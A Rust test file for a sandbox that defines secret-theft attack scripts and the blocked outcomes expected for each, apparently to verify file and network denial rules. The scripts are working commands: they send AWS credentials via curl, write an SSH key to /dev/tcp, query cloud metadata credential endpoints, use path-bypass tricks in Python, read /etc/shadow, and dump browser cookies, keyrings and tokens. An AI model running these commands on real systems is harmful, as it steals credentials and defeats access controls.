//! Secrets: read, sent away, and asked of the cloud (A01, A02, A04, A36, A41).

use crate::attack::{Attack, Harm};
use crate::guest::Who;

pub const ATTACKS: &[Attack] = &[
    Attack {
        name: "A01_cloud_keys_are_not_read_and_nothing_is_posted",
        who: Who::Dev,
        before: "",
        script: "cat ~/.aws/credentials | base64 -w0 | curl -sm5 -d @- http://203.0.113.10/",
        // `[default]\naws_access`, in base64.
        harm: Harm::Arrived("tcp-203.0.113.10:80", "W2RlZmF1bHRdCmF3c19hY2Nlc3", 1),
        told: &[
            &["/home/dev/.aws/credentials", "\"EACCES\"", "files.deny[", "base.yaml:"],
            &["203.0.113.10", "\"port\":80", "\"ENETUNREACH\"", "cgroup/connect4"],
        ],
    },
    Attack {
        name: "A02_a_key_does_not_leave_through_a_shell_alone",
        who: Who::Dev,
        before: "",
        script: "cat ~/.ssh/id_ed25519 >/dev/null; cat ~/.ssh/id_ed25519 >/dev/tcp/203.0.113.10/443",
        harm: Harm::Arrived("tcp-203.0.113.10:443", "planted-private-key", 1),
        told: &[
            &["/home/dev/.ssh/id_ed25519", "\"EACCES\"", "files.deny["],
            &["203.0.113.10", "\"port\":443", "\"ENETUNREACH\"", "/bin/bash"],
        ],
    },
    Attack {
        name: "A04_the_cloud_hands_out_no_credentials",
        who: Who::Dev,
        before: "",
        script: r#"
curl -sm5 -X PUT http://169.254.169.254/latest/api/token
curl -sm5 http://169.254.170.2/v2/credentials
curl -sm5 http://[fd00:ec2::254]/latest/meta-data
curl -sm5 http://2852039166/
curl -sm5 http://[::ffff:169.254.169.254]/"#,
        harm: Harm::Said("planted-answer", 5),
        told: &[
            &["169.254.169.254", "\"ENETUNREACH\"", "base:network.deny[0]", "cgroup/connect4"],
            &["169.254.169.254", "\"ENETUNREACH\"", "base:network.deny[0]", "cgroup/connect6"],
            &["169.254.170.2", "\"ENETUNREACH\"", "base:network.deny[0]"],
            &["fd00:ec2::254", "\"ENETUNREACH\"", "base:network.deny[1]"],
        ],
    },
    Attack {
        name: "A36_a_key_is_not_opened_without_its_path",
        who: Who::Dev,
        before: "",
        script: r#"
ln -s ~/.ssh/id_ed25519 notes.txt; cat notes.txt
cat /proc/self/root$HOME/.ssh/id_ed25519
cat /proc/$$/root$HOME/work/../.ssh/id_ed25519
(cd ~/.ssh && cat /proc/self/cwd/id_ed25519)
python3 - <<'P'
import ctypes, os
key = os.path.expanduser('~/.ssh/id_ed25519')
def attempt(way):
    try:
        for line in way().splitlines(): print(line)
    except OSError as error:
        print(error)
def through_a_handle_on_the_path():
    return open('/proc/self/fd/%d' % os.open(key, os.O_PATH)).read()
def below_a_directory():
    directory = os.open(os.path.dirname(key), os.O_PATH)
    return os.read(os.open('id_ed25519', os.O_RDONLY, dir_fd=directory), 100).decode()
def openat2():
    how = (ctypes.c_uint64 * 3)(0, 0, 0)
    fd = ctypes.CDLL(None, use_errno=True).syscall(437, -100, key.encode(), how, 24)
    if fd < 0: raise OSError(ctypes.get_errno(), 'openat2')
    return os.read(fd, 100).decode()
def renamed():
    os.rename(key, 'mine'); return open('mine').read()
def linked():
    os.link(key, 'mine'); return open('mine').read()
for way in [through_a_handle_on_the_path, below_a_directory, openat2, linked, renamed]:
    attempt(way)
P"#,
        harm: Harm::Said("planted-private-key", 9),
        told: &[
            &["/home/dev/.ssh/id_ed25519", "lsm/file_open", "\"EACCES\"", "python3"],
            &["/home/dev/.ssh/id_ed25519", "lsm/path_link", "\"EACCES\""],
            &["/home/dev/.ssh/id_ed25519", "lsm/path_rename", "\"EACCES\""],
        ],
    },
    Attack {
        name: "A36_root_does_not_open_by_handle",
        who: Who::Root,
        before: "",
        script: r#"python3 - <<'P'
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
class Handle(ctypes.Structure):
    _fields_ = [('bytes', ctypes.c_uint), ('type', ctypes.c_int), ('data', ctypes.c_ubyte * 128)]
handle, mount = Handle(128, 0), ctypes.c_int()
if libc.name_to_handle_at(-100, b'/home/dev/.ssh/id_ed25519', ctypes.byref(handle), ctypes.byref(mount), 0):
    print('name', ctypes.get_errno())
# The root of the same file system.
fd = libc.open_by_handle_at(os.open('/', os.O_RDONLY | os.O_DIRECTORY), ctypes.byref(handle), os.O_RDONLY)
print(os.read(fd, 100) if fd >= 0 else ctypes.get_errno())
P
cat /proc/1/root/etc/shadow /etc/shadow"#,
        harm: Harm::Said("planted-private-key", 1),
        told: &[&["/etc/shadow", "\"EACCES\"", "files.deny["]],
    },
    Attack {
        name: "A41_browsers_keyrings_and_tokens_are_not_read",
        who: Who::Dev,
        before: "",
        script: r#"
cp ~/.config/google-chrome/Default/Cookies /tmp/c && cat /tmp/c
for file in ".config/google-chrome/Default/Login Data" .mozilla/firefox/x.default/logins.json \
    .local/share/keyrings/login.keyring .kube/config .gnupg/secring.gpg .docker/config.json .netrc \
    .git-credentials .config/gh/hosts.yml .bash_history .npmrc .cargo/credentials.toml; do cat ~/"$file"; done
python3 -c 'import os; print(open(os.path.expanduser("~/.npmrc")).read())'"#,
        harm: Harm::Said("planted", 14),
        told: &[
            &["/home/dev/.config/google-chrome/Default/Cookies", "\"EACCES\"", "files.deny["],
            &["/home/dev/.local/share/keyrings/login.keyring", "\"EACCES\"", "files.deny["],
            &["/home/dev/.bash_history", "\"EACCES\"", "files.deny["],
        ],
    },
];
